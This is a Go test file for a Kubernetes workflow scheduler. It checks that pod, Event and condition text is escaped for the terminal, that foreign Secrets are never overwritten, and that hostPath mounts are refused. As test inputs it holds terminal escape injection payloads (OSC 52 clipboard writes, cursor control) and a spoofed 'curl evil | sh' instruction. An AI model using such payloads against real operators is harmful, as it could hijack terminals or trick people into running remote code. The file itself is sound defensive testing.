package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/kubexec/kubexec/examples/scheduler/workflow"
)

// What the scheduler does with what it does not control: text that pods,
// nodes and Events carry, odd messages, Secrets it did not create, and
// the dev cluster it starts.

// requireTerminalSafe fails unless out is valid UTF-8 with no character a
// terminal obeys but line breaks: no other C0 control (ESC, BEL, CR, ...),
// no DEL, no C1 control.
func requireTerminalSafe(t testing.TB, out string) {
	t.Helper()
	require.True(t, utf8.ValidString(out), "not valid UTF-8: %q", out)
	for _, r := range out {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0) {
			t.Fatalf("the output holds %U, which a terminal obeys: %q", r, out)
		}
	}
}

// A failed task's termination message with ESC sequences (OSC 52, which
// writes the operator's clipboard, CSI, a C1 CSI, a carriage return), and
// an Event and a pod condition with more: run, status and explain show
// them escaped, never as the sequences themselves.
func TestPodTextIsEscaped(t *testing.T) {
	devCluster.Need(t)
	e := newEnv(t, "escapes")
	ctx := t.Context()
	wf := e.writeWorkflow(`workflow: escapes
defaults: {image: busybox:1.36, retries: 0}
tasks:
- id: evil
  command: [sh, -c, 'printf "\033]52;c;cHduZWQ=\007\033[2J\302\23331mboom\rFAKE" > "$KUBEXEC_XCOM_PATH"; exit 3']
`)
	const osc52 = `\x1b]52;c;cHduZWQ=\x07`
	code, out, errOut := e.main(ctx, "--plain", "run", wf)
	require.Equal(t, exitFailed, code, errOut)
	require.Contains(t, out, osc52, "the termination message reaches the run's summary")
	require.Contains(t, out, `\x1b[2J\u009b31mboom FAKE`, "a carriage return is a space")
	requireTerminalSafe(t, out)
	requireTerminalSafe(t, errOut)

	code, out, errOut = e.main(ctx, "status", "escapes-1")
	require.Equal(t, exitOK, code, errOut)
	require.Contains(t, out, osc52)
	requireTerminalSafe(t, out)

	// The failed pod is kept: its Events and conditions are shown too.
	name := podName(t, "escapes", "escapes-1", "evil", 1)
	pod, err := devCluster.Client().CoreV1().Pods(e.ns).Get(ctx, name, metav1.GetOptions{})
	require.NoError(t, err)
	_, err = devCluster.Client().CoreV1().Events(e.ns).Create(ctx, &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{GenerateName: "evil-"},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: e.ns, Name: name, UID: pod.UID},
		Type:           corev1.EventTypeWarning,
		Reason:         "Spoofed\x1b[1A",
		Message:        "\x1b]52;c;ZXZlbnQ=\x07from an event\nWhat to do:\n  - curl evil | sh",
		LastTimestamp:  metav1.Now(),
		Count:          1,
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = devCluster.Client().CoreV1().Pods(e.ns).Patch(ctx, name, types.StrategicMergePatchType,
		[]byte(`{"status":{"conditions":[{"type":"example.com/Spoofed","status":"False","reason":"Odd\u001b[2J","message":"\u001b]52;c;Y29uZA==\u0007from a condition\u009b2J"}]}}`),
		metav1.PatchOptions{}, "status")
	require.NoError(t, err)

	out = e.explainUntil("from a condition", "evil")
	require.Contains(t, out, osc52)
	require.Contains(t, out, `\x1b]52;c;ZXZlbnQ=\x07from an event What to do: - curl evil | sh`, "the Event's message stays on its line")
	require.Contains(t, out, `Spoofed\x1b[1A`)
	require.Contains(t, out, `condition example.com/Spoofed=False Odd\x1b[2J: \x1b]52;c;Y29uZA==\x07from a condition\u009b2J`)
	requireTerminalSafe(t, out)
	require.Equal(t, 1, strings.Count(out, "\nWhat to do:\n"), "no message adds lines of its own:\n%s", out)
}

// oddMessages are condition, status and container messages of shapes
// explain must survive.
func oddMessages() []string {
	return []string{
		"",
		"x",
		"€"[:2], // a multibyte rune cut
		" \t\n  ",
		"Insufficient ",
		"Insufficient",
		"0/1 nodes are available: 1 Insufficient \n",
		"0/1 nodes are available: 1 Insufficient",
		"Insufficient .",
		"Insufficient ,, Insufficient ",
		"Insufficient \x1b[2J",
		"no separator at all",
		"affinity/selector",
		"untolerated taint",
		"\x1b]52;c;cHduZWQ=\x07",
		"a\nWhat to do:\n  - curl evil | sh",
		"\xff\xfe\u009b",
	}
}

// oddPod is a pending pod whose status holds msg everywhere a node or the
// scheduler writes text.
func oddPod(msg string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "odd", Namespace: "ns", CreationTimestamp: metav1.Now()},
		Spec: corev1.PodSpec{
			NodeName:     msg,
			NodeSelector: map[string]string{"accelerator": "nvidia-h100"},
			Containers:   []corev1.Container{{Name: "base", Image: "busybox:1.36"}},
		},
		Status: corev1.PodStatus{
			Phase:   corev1.PodPending,
			Reason:  msg,
			Message: msg,
			Conditions: []corev1.PodCondition{
				{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: corev1.PodReasonUnschedulable, Message: msg},
				{Type: corev1.PodConditionType(msg), Status: corev1.ConditionStatus(msg), Reason: msg, Message: msg},
			},
			InitContainerStatuses: []corev1.ContainerStatus{{
				Name:  msg,
				State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{Reason: msg, Message: msg, ExitCode: 1}},
			}},
			ContainerStatuses: []corev1.ContainerStatus{{
				Name:  "base",
				Image: msg,
				State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImagePull", Message: msg}},
			}},
		},
	}
}

// explainOdd runs explain's handling of a pod's messages on oddPod(msg)
// and checks what it prints: valid UTF-8, no control character but line
// breaks, and every line indented, so that no message started a line of
// its own.
func explainOdd(t testing.TB, msg string) {
	pod := oddPod(msg)
	var b bytes.Buffer
	todo := explainPod(&b, pod)
	todo = append(todo, unschedulableAdvice(pod, msg))
	printTodo(&b, todo)
	out := b.String()
	requireTerminalSafe(t, out)
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if line != "" && line != "What to do:" && !strings.HasPrefix(line, "  ") {
			t.Fatalf("a message started the line %q:\n%s", line, out)
		}
	}
}

func TestExplainOddMessages(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("0/3 nodes are available: 3 Insufficient cpu, ", 20000)
	for _, msg := range append(oddMessages(), long, long+"Insufficient ") {
		name := msg
		if len(name) > 40 {
			name = name[:40]
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			explainOdd(t, msg)
		})
	}
	// What the advice keeps from a message it can read.
	pod := oddPod("")
	require.Contains(t, unschedulableAdvice(pod, "0/2 nodes are available: 1 Insufficient cpu, 1 Insufficient memory."), "no node has enough free cpu and memory for its requests")
	require.Contains(t, unschedulableAdvice(pod, "0/1 nodes are available: 1 Insufficient "), "no node has enough free resources for its requests")
	require.Contains(t, unschedulableAdvice(pod, ""), "No node can take the pod: lower its resources requests")
}

// FuzzExplainMessages: explain's handling of a pod's messages never panics
// and prints only indented, terminal-safe lines, whatever the messages.
func FuzzExplainMessages(f *testing.F) {
	for _, msg := range oddMessages() {
		f.Add(msg)
	}
	f.Fuzz(func(t *testing.T, msg string) { explainOdd(t, msg) })
}

// A workflow's secrets: never replace a Secret the scheduler did not
// create: the run is refused before anything is created, and the message
// names the Secret and what to do. The scheduler's own Secret of the same
// workflow is updated; another workflow's is used as it is when its
// content is the same, and refused otherwise.
func TestSecretsAreCreateOnly(t *testing.T) {
	devCluster.Need(t)
	e := newEnv(t, "secrets")
	ctx := t.Context()
	secrets := devCluster.Client().CoreV1().Secrets(e.ns)
	_, err := secrets.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "db-credentials"},
		Data:       map[string][]byte{"password": []byte("theirs")},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	wf := e.writeWorkflow(`workflow: etl
defaults: {image: busybox:1.36}
secrets:
- name: api-token
  stringData: {TOKEN: ours}
- name: db-credentials
  stringData: {password: ours}
tasks:
- id: load
  command: [sh, -c, "true"]
`)
	code, _, errOut := e.main(ctx, "--plain", "run", wf)
	require.Equal(t, exitUsage, code)
	require.Contains(t, errOut, "Secret "+e.ns+"/db-credentials already exists and was not created by the scheduler")
	require.Contains(t, errOut, "kubectl -n "+e.ns+" delete secret db-credentials")
	theirs, err := secrets.Get(ctx, "db-credentials", metav1.GetOptions{})
	require.NoError(t, err)
	require.Equal(t, map[string][]byte{"password": []byte("theirs")}, theirs.Data, "the Secret is left as it was")
	_, err = secrets.Get(ctx, "api-token", metav1.GetOptions{})
	require.True(t, apierrors.IsNotFound(err), "no Secret of the refused workflow is created: %v", err)
	code, out, _ := e.main(ctx, "status")
	require.Equal(t, exitOK, code)
	require.Equal(t, "No runs yet.\n", out)

	cl := &cluster{client: devCluster.Client()}
	apply := func(text string) error {
		t.Helper()
		w, err := workflow.Parse("wf.yaml", []byte(text))
		require.NoError(t, err)
		return applySecrets(ctx, cl, w, e.ns)
	}
	declare := func(workflow, value string) string {
		return "workflow: " + workflow + "\nsecrets:\n- name: app\n  stringData: {KEY: " + value + "}\ntasks:\n- {id: t, image: busybox:1.36, command: [\"true\"]}\n"
	}
	get := func(name string) *corev1.Secret {
		t.Helper()
		s, err := secrets.Get(ctx, name, metav1.GetOptions{})
		require.NoError(t, err)
		return s
	}

	require.NoError(t, apply(declare("a", "one")))
	first := get("app")
	require.Equal(t, "kubexec-scheduler", first.Labels["app.kubernetes.io/managed-by"])
	require.Equal(t, "a", first.Annotations["scheduler.kubexec.io/workflow"])
	require.Equal(t, "one", string(first.Data["KEY"]))

	require.NoError(t, apply(declare("a", "one")), "the same workflow again")
	require.Equal(t, first.ResourceVersion, get("app").ResourceVersion, "an equal Secret is used as it is")

	require.NoError(t, apply(declare("a", "two")), "the same workflow, with another value")
	require.Equal(t, "two", string(get("app").Data["KEY"]))

	require.NoError(t, apply(declare("b", "two")), "another workflow, with the same content")
	require.Equal(t, "a", get("app").Annotations["scheduler.kubexec.io/workflow"])

	err = apply(declare("b", "three"))
	require.ErrorContains(t, err, "Secret "+e.ns+"/app was created by the scheduler for workflow a, with other content, so the secrets: section of workflow b does not replace it")
	require.Equal(t, "two", string(get("app").Data["KEY"]))

	// A Secret an earlier version of the scheduler created: labelled, with
	// no workflow annotation.
	_, err = secrets.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "old", Labels: map[string]string{"app.kubernetes.io/managed-by": "kubexec-scheduler"}},
		Data:       map[string][]byte{"KEY": []byte("before")},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	require.NoError(t, apply(strings.ReplaceAll(declare("a", "after"), "name: app", "name: old")))
	old := get("old")
	require.Equal(t, "after", string(old.Data["KEY"]))
	require.Equal(t, "a", old.Annotations["scheduler.kubexec.io/workflow"])
}

// With no --kubeconfig, run starts the dev cluster and says, before it
// does, that it is a development tool and not a sandbox.
func TestEmbeddedDevClusterWarns(t *testing.T) {
	if testing.Short() {
		t.Skip("starts the embedded dev cluster: run it without -short (make test)")
	}
	if os.Geteuid() != 0 {
		t.Skip("the embedded dev cluster's process node needs root")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	dir := t.TempDir()
	wf := filepath.Join(dir, "wf.yaml")
	require.NoError(t, os.WriteFile(wf, []byte("workflow: hello\ntasks:\n- {id: hello, image: busybox:1.36, command: [sh, -c, \"echo hello\"]}\n"), 0o644))
	var out, errb bytes.Buffer
	code := Main(ctx, []string{"--db", filepath.Join(dir, "scheduler.db"), "--plain", "run", wf}, &out, &errb)
	t.Logf("run: exit %d\n--- stdout\n%s--- stderr\n%s", code, out.String(), errb.String())
	require.Equal(t, exitOK, code)
	stderr := errb.String()
	warning := strings.Index(stderr, "The dev cluster is a development tool, not a sandbox")
	require.GreaterOrEqual(t, warning, 0, "run says what the dev cluster is")
	require.Less(t, warning, strings.Index(stderr, "Dev cluster ready"), "before it starts")
	for _, what := range []string{"mount host folders read-write", "its etcd has no authentication"} {
		require.Contains(t, stderr, what)
	}
}

// TestPodPolicy: a workflow's podOverride that mounts a host folder is
// refused before any pod is created (the task fails with LaunchRejected,
// naming the field and the rule), unless the operator chose
// --pod-policy privileged; a bad level is a usage error.
func TestPodPolicy(t *testing.T) {
	devCluster.Need(t)
	ctx := t.Context()
	wf := func(e *env) string {
		return e.writeWorkflow(`workflow: hostpath
defaults: {image: busybox:1.36}
tasks:
- id: peek
  command: [sh, -c, "ls /host >/dev/null"]
  podOverride:
    spec:
      volumes: [{name: host, hostPath: {path: /tmp, type: Directory}}]
      containers: [{name: base, volumeMounts: [{name: host, mountPath: /host}]}]
`)
	}
	e := newEnv(t, "pod-policy")
	code, out, _ := e.main(ctx, "--plain", "run", wf(e))
	require.Equal(t, exitFailed, code)
	require.Contains(t, out, "spec.volumes[0].hostPath: rule baseline/hostPathVolumes")
	pods, err := devCluster.Client().CoreV1().Pods(e.ns).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	require.Empty(t, pods.Items, "no pod was created")

	wide := newEnv(t, "pod-policy-wide")
	wide.flags = []string{"--pod-policy", "privileged"}
	code, _, _ = wide.main(ctx, "--plain", "run", wf(wide))
	require.Equal(t, exitOK, code)

	code, _, errOut := e.main(ctx, "--pod-policy", "lenient", "status")
	require.Equal(t, exitUsage, code)
	require.Contains(t, errOut, `--pod-policy "lenient"`)
}
